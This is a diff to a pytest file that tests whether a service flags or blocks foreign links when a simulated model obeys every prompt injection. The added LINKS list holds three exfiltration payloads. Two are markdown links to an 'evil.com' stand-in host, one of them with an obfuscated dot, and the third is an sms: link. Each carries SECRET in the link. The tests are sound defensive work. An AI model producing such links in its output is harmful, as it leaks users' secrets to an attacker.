@@ -1,4 +1,4 @@
-"""The boundary on the running service, with a model that obeys every injection (S2, S3, S4)."""
+"""At the vendors' endpoints, with a model that obeys every injection: a route may only flag, or block (S4)."""
 
 import json
 from collections.abc import AsyncIterator, Iterator
@@ -7,10 +7,15 @@ from typing import Any
 import aiohttp
 import pytest
 import pytest_asyncio
-from conftest import LIVE_RELEASE, ROOT, Simulator, octant, own_database, running_service
-from rendering import PUT_TOGETHER
+from conftest import ROOT, Simulator, octant, own_database, running_service
 
 from app.stack.embedded import embedded_valkey, free_port
+
+LINKS = [
+    '"![a\\]]\n\n[a\\]]: //evil\u3002com/x?d=SECRET"',
+    '"_www.evil.com/x?d=SECRET_"',
+    "'<sms:+19005551234?body=SECRET>'",
+]
 
 
 @pytest_asyncio.fixture
@@ -25,7 +30,7 @@ async def post(http: aiohttp.ClientSession, path: str, body: object) -> tuple[in
         return answer.status, await answer.text()
 
 
-@pytest.mark.parametrize("words", [words for words in PUT_TOGETHER if "xx" not in words])
+@pytest.mark.parametrize("words", LINKS)
 async def test_at_a_vendors_endpoint_every_form_of_a_foreign_link_is_flagged(
     http: aiohttp.ClientSession, simulator: Simulator, words: str
 ) -> None:
@@ -68,13 +73,13 @@ def blocking(
         target = folder / path.relative_to(ROOT / "releases")
         target.parent.mkdir(parents=True, exist_ok=True)
         target.write_text(path.read_text())
-    newest = (folder / f"{LIVE_RELEASE}.toml").read_text().replace(f'id = "{LIVE_RELEASE}"', 'id = "blocking"')
+    newest = (folder / "0-start.toml").read_text().replace('id = "0-start"', 'id = "blocking"')
     (folder / "blocking.toml").write_text(newest.replace("[routes.fast]", BLOCKING + "\n[routes.fast]"))
     ports = {"OCTANT_PORT": str(free_port()), "OCTANT_METRICS_PORT": str(free_port()), "OCTANT_WORKERS": "1"}
     with embedded_valkey(None) as valkey, own_database(database_url, "blocking") as database:
         env = {**stack_env, **ports, "OCTANT_VALKEY_URL": valkey, "OCTANT_DATABASE_URL": database}
         env["OCTANT_RELEASES_DIR"] = str(folder)
-        octant(env, "tenant", "create", "acme", "--name", "Northwind Outfitters")
+        octant(env, "tenant", "create", "acme", "--name", "The tests' tenant")
         octant(env, "release", "activate", "blocking", "--reason", "tests")
         key = octant(env, "key", "create", "acme", "--name", "tests", "--quiet").strip()
         with running_service(env, folder / "service.log") as url:
